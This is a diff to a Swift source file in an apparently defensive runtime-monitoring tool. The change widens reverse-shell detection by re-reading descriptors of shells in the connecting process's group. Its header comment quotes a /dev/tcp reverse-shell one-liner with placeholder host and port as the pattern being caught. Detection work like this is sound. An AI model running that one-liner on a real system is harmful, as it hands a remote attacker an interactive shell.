@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 // Adds what /proc says about the connecting process to each connect event, and re-reads the
-// descriptors of shells and interpreters that connect. A shell that redirects its own stdio to a
+// descriptors of shells and interpreters that connect, and of the shells in the connector's
+// pipeline (its process group). A shell that redirects its own stdio to a
 // socket it opened (`exec 3<>/dev/tcp/h/p; exec 0<&3 1>&3 2>&3`) execs nothing afterwards, so only a
 // second look at its fds 0-2, a moment after the connect, shows the reverse shell.
 
@@ -8,7 +9,7 @@ import Foundation
 import RuntimeWatchCore
 
 public struct ConnectEnrichment: Sendable {
-    /// When to look again at a connecting shell's descriptors.
+    /// When to look again at a connecting shell's (and its pipeline's shells') descriptors.
     public var rereadDelays: [Duration] = [.milliseconds(50), .milliseconds(500)]
     /// Most re-reads waiting at once; beyond it new ones are skipped (bounded work under a storm).
     public var maxPendingRereads = 64
@@ -30,17 +31,28 @@ public struct ConnectEnrichment: Sendable {
                     record.event = .connect(connect)
                 }
                 continuation.yield(record)
-                guard let info = read.info, ProgramClassifier.isShellOrInterpreter(info), pending.acquire() else { continue }
+                // Services (kind .other) connect all the time and are never a reverse shell's relay.
+                guard let info = read.info, ProgramClassifier.kind(of: info) != .other, pending.acquire() else { continue }
                 let pid = connect.pid
+                let connectorIsShell = ProgramClassifier.isShellOrInterpreter(info)
                 Task.detached {
                     defer { pending.release() }
-                    var last = info.fds
+                    var last: [ProcessID: [DescriptorInfo]] = connectorIsShell ? [pid: info.fds ?? []] : [:]
                     for delay in rereadDelays {
                         try? await Task.sleep(for: delay)
-                        guard let now = reader.read(pid: pid.rawValue).info, let fds = now.fds else { return }
-                        if fds != last {
-                            continuation.yield(EventRecord(timestamp: WallClock.nowNanoseconds(), event: .descriptors(DescriptorsEvent(pid: pid, fds: fds))))
-                            last = fds
+                        // The connector itself when it is a shell, and the shells of its pipeline
+                        // (children and siblings in its process group): one of them may be the
+                        // shell this connection now serves.
+                        var targets = ProcessGroupMembers.of(pid.rawValue).map { ProcessID($0) }
+                        if connectorIsShell { targets.insert(pid, at: 0) }
+                        for target in targets {
+                            guard let now = reader.read(pid: target.rawValue).info, let fds = now.fds,
+                                  target == pid || ProgramClassifier.isShellOrInterpreter(now) else { continue }
+                            if fds != last[target] {
+                                continuation.yield(EventRecord(timestamp: WallClock.nowNanoseconds(),
+                                                               event: .descriptors(DescriptorsEvent(pid: target, fds: fds))))
+                                last[target] = fds
+                            }
                         }
                     }
                 }
